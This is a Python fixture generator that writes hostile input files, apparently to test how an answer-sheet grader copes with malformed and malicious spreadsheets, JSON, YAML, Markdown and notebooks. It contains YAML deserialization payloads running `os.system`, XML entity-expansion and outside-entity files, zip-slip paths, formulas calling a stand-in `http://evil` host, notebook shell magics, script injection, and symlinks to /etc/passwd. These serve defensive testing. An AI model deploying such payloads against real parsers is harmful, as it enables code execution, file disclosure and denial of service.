"""The sheets by name: bytes of a file, or what makes a file that is none."""

import json
import os
import socket

from hostile_sheets import (
    CELL,
    ENTITIES,
    EVIL,
    MILLION,
    ODF,
    OUTSIDE,
    OWN,
    SHEET,
    answers,
    notebook,
    ods,
    row,
    rows,
    xlsx,
    zipped,
)

WIDE = ' table:number-columns-repeated="99999999"'


def _csv():
    yield "huge cell.csv", "question,answer\nconv1_1.params," + "9" * (3 * MILLION)
    yield "many columns.csv", ",".join(f"c{i}" for i in range(500_000)) + "\n1"
    yield "many rows.csv", "question,answer\n" + "conv1_1.params,1\n" * 200_000
    yield "only commas.csv", "," * (4 * MILLION - 1)
    yield "only quotes.csv", '"' * (4 * MILLION - 1)
    yield "only newlines.csv", "\n" * (4 * MILLION - 1)
    yield "open quote.csv", 'question,answer\nconv1_1.params,"1792\n' + "a,b\n" * 100_000
    yield "nul.csv", "question,answer\nconv1_1.params,17\0 92\n"
    yield "utf16.csv", OWN.encode("utf-16")
    yield "utf32.csv", OWN.encode("utf-32")
    yield "utf16 half.csv", b"\xff\xfeq\x00u"
    yield "latin.csv", "question,answer\nconv1_1.params,é\n".encode("latin-1")
    yield "ebcdic.csv", OWN.encode("cp500")
    yield "random.csv", bytes(range(256)) * 4000
    yield "too large.csv", OWN + "a" * (5 * MILLION)
    yield "empty.csv", ""
    yield "bom alone.csv", "\ufeff"
    asked = ("conv1_1", "conv1_2", "conv2_1", "conv2_2")
    evil = (f"{layer}.params,{json.dumps(cell)}\n" for layer, cell in zip(asked, EVIL, strict=False))
    yield "evil.csv", "question,answer\n" + "".join(evil)
    yield "evil questions.csv", "question,answer\n" + "".join('"{}",1\n'.format(cell.replace('"', '""')) for cell in EVIL)
    yield "evil students.csv", "student,conv1_1.params\n" + "".join('"{}",1792\n'.format(cell.replace('"', '""')[:500]) for cell in EVIL)
    yield "evil headings.csv", ",".join('"{}"'.format(cell.replace('"', '""')[:2000]) for cell in EVIL) + "\n" + ",".join("1" for _ in EVIL)
    yield "network of networks.csv", "network: " + "vgg16(" * 500 + "\n" + OWN
    yield "many networks.csv", "question,answer\n" + "".join(f"resnet152(batch={i}).total.params,1\n" for i in range(1, 3000))
    yield "huge network.csv", "question,answer\nvgg16(batch=999999).total.memory,1\nvgg16(input=3x99999x99999).total.macs,1\n"
    yield "path network.csv", "question,answer\n/etc/passwd.conv1.params,1\n../../x.yaml.conv1.params,1\n"
    yield "thousand layers.csv", "layer,output,params\n" + "".join(f"l{i},1x1x1,1\n" for i in range(4900))
    yield "long names.csv", "question,answer\n" + f"{'a' * 100_000}.params,1\n" * 20
    yield "dots.csv", "question,answer\n" + "." * 100_000 + ",1\n"


def _texts():
    deep = 200_000
    yield "deep lists.json", "[" * deep + "]" * deep
    yield "deep objects.json", '{"a":' * deep + "1" + "}" * deep
    yield "same keys.json", "{" + ",".join('"a":1' for _ in range(300_000)) + "}"
    yield "many keys.json", "{" + ",".join(f'"k{i}":1' for i in range(200_000)) + "}"
    yield "huge number.json", '{"conv1_1.params":' + "9" * (3 * MILLION) + "}"
    yield "infinity.json", '{"conv1_1.params": Infinity, "conv1_2.params": NaN, "conv2_1.params": 1e999999}'
    yield "list of lists.json", "[" + ",".join("[1]" for _ in range(300_000)) + "]"
    yield "rows of keys.json", "[" + ",".join(json.dumps({f"k{i}": 1}) for i in range(60_000)) + "]"
    yield "surrogate.json", '{"conv1_1.params": "\\ud800"}'
    yield "evil.json", json.dumps({f"conv1_1.params{i}": cell for i, cell in enumerate(EVIL)})
    yield "evil keys.json", json.dumps(dict.fromkeys(EVIL, "1"))
    yield "truncated.json", '{"conv1_1.params": "17'
    yield "aliases.yaml", "\n".join(["a0: &a0 [x, x]", *(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12))])
    yield "python object.yaml", "conv1_1.params: !!python/object/apply:os.system ['touch /tmp/owned']\n"
    yield "python name.yaml", "!!python/name:os.system\n"
    yield "deep.yaml", "[" * deep
    yield "merge.yaml", "a: &a {x: 1}\n" + "".join(f"b{i}: &b{i} {{<<: [{', '.join(['*a'] * 9)}]}}\n" for i in range(5000))
    yield "tags.yaml", "%TAG ! tag:x\n" * 70_000
    yield "norway.yaml", "conv1_1.params: no\nconv1_2.params: 0o17\nconv2_1.params: 1:30\n"
    yield "two documents.yaml", "conv1_1.params: 1792\n---\nconv1_1.params: 1\n"
    yield "backticks.md", "`" * (4 * MILLION - 1)
    yield "pipes.md", "|" * (4 * MILLION - 1)
    yield "dashes.md", "| a | b |\n|" + "-" * (3 * MILLION) + "|\n"
    yield "many tables.md", "| question | answer |\n|---|---|\n| conv1_1.params | 1 |\n\n" * 50_000
    yield "html.md", "| question | answer |\n|---|---|\n| conv1_1.params | <script>alert(1)</script> |\n"
    yield "links.md", "| question | answer |\n|---|---|\n| conv1_1.params | [1792](file:///etc/passwd) ![x](http://evil/) |\n"
    yield "tabs.tsv", "\t" * (4 * MILLION - 1)
    yield "nul.tsv", "question\tanswer\nconv1_1.params\t1\x001\n"
    yield "summary.txt", 'Model: "a"\n' + "conv (Conv2D)  (None, 1, 1, 1)  1\n" * 100_000
    yield "boxes.txt", "┃" * MILLION
    yield "escape.txt", "conv1_1.params: \x1b[2J\x1b]0;owned\x07 1792\n"


def _archives():
    yield "zeros.xlsx", xlsx(SHEET.format(" " * (300 * MILLION)))
    yield "entities.xlsx", xlsx(ENTITIES + SHEET.format("&a11;"))
    yield "outside.xlsx", xlsx(OUTSIDE + SHEET.format('<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'))
    yield "far cell.xlsx", xlsx(SHEET.format('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>a</t></is></c></row>'))
    yield "many cells.xlsx", xlsx(SHEET.format("".join(f'<row r="{i}"><c r="A{i}"><v>1</v></c></row>' for i in range(1, 300_000))))
    yield "deep xml.xlsx", xlsx("<a>" * 300_000 + "</a>" * 300_000)
    yield "no xml.xlsx", xlsx("this is no xml")
    yield "slip.xlsx", xlsx(rows(("conv1_1.params", "1792")), **{"..__..__..__tmp__owned": "x"})
    yield "macro.xlsx", xlsx(rows(("conv1_1.params", "1792")), xl__vbaProject="macro")
    text = '<c r="{}" t="inlineStr"><is><t>{}</t></is></c>'
    head = f"<row r='1'>{text.format('A1', 'question')}{text.format('B1', 'answer')}</row>"
    formula = '<c r="B2"><f>WEBSERVICE("http://evil")</f></c>'
    yield "formula.xlsx", xlsx(SHEET.format(f"{head}<row r='2'>{text.format('A2', 'conv1_1.params')}{formula}</row>"))
    yield "link.xlsx", xlsx(rows(("conv1_1.params", '=HYPERLINK("http://evil")')), xl__externalLinks__externalLink1="http://evil")
    yield "strings.xlsx", xlsx(SHEET.format('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>'))
    yield "not a zip.xlsx", b"PK\x03\x04" + b"\0" * 1000
    yield "csv.xlsx", OWN
    yield "encrypted.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000
    yield "many parts.xlsx", zipped({f"xl/worksheets/sheet{i}.xml": "" for i in range(60_000)})
    yield "nested.xlsx", zipped({"xl/worksheets/sheet1.xml": zipped({"a": b"0" * (30 * MILLION)})})
    yield "zeros.ods", ods(ODF.format(" " * (300 * MILLION)))
    yield "entities.ods", ods(ENTITIES + ODF.format(row("&a11;")))
    yield "outside.ods", ods(OUTSIDE + ODF.format(row("&x;", "1")))
    repeated = row("a", "b", times=' table:number-rows-repeated="1048576"')
    yield "repeated.ods", ods(ODF.format(row("question", "answer") + row("conv1_1.params", "1792") + repeated))
    yield "repeated cells.ods", ods(ODF.format(f"<table:table-row>{CELL.format('a', WIDE)}</table:table-row>"))
    yield "deep xml.ods", ods("<a>" * 300_000)
    yield "formula.ods", ods(ODF.format(row("question", "answer") + row("conv1_1.params", "of:=WEBSERVICE(1)")))
    yield "macro.ods", ods(ODF.format(row("question", "answer") + row("conv1_1.params", "1792")), Basic__Standard__Module1="Shell")
    yield "other type.ods", ods(ODF.format(row("a", "b")), mimetype="application/x-sh")
    yield "negative.ods", ods(ODF.format(row("a", "b", times=' table:number-rows-repeated="-1"')))


def _notebooks():
    yield "million cells.ipynb", '{"nbformat":4,"metadata":{},"cells":[' + ",".join("{}" for _ in range(MILLION)) + "]}"
    yield "many answers.ipynb", notebook([answers(f"conv1_1.params: {i}") for i in range(30_000)])
    yield "evil.ipynb", notebook([answers(f"conv1_1.params: {cell}"[:3000]) for cell in EVIL])
    yield "code.ipynb", notebook([answers("import os\nos.system('touch /tmp/owned')\nconv1_1.params: 1792")])
    yield "magics.ipynb", notebook([answers("!touch /tmp/owned\n%run evil.py\nconv1_1.params: 1792")])
    shown = [{"data": {"text/html": "<script>alert(1)</script>" * 50_000}}]
    yield "outputs.ipynb", notebook([answers("conv1_1.params: 1792", outputs=shown)])
    yield "huge source.ipynb", notebook([answers("a" * (3 * MILLION))])
    yield "many lines.ipynb", notebook([answers("conv1_1.params: 1\n" * 150_000)])
    yield "no list.ipynb", '{"cells": {"a": 1}}'
    yield "numbers.ipynb", '{"cells": [1, null, true, "x", [[]]]}'
    yield "source of numbers.ipynb", notebook([answers([1, 2, 3])])
    yield "deep.ipynb", '{"cells":' + "[" * 200_000
    yield "metadata.ipynb", notebook([answers("conv1_1.params: 1792", metadata={"tags": ["answer"] * 100_000})])


def _paths(folder):
    """Files that are none."""
    os.mkfifo(folder / "fifo.csv")
    (folder / "link.csv").symlink_to("/dev/zero")
    (folder / "loop.csv").symlink_to("loop.csv")
    (folder / "passwd.csv").symlink_to("/etc/passwd")
    (folder / "folder.csv").mkdir()
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(folder / "socket.csv"))
    (folder / "unreadable.csv").write_text(OWN)
    (folder / "unreadable.csv").chmod(0)
    return ["fifo.csv", "link.csv", "loop.csv", "passwd.csv", "folder.csv", "socket.csv", "unreadable.csv", "missing.csv"]


def made(folder):
    """Every sheet, written into a folder: its names."""
    names = _paths(folder)
    for kind in (_csv, _texts, _archives, _notebooks):
        for name, content in kind():
            raw = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
            (folder / name).write_bytes(raw)
            names.append(name)
    return names
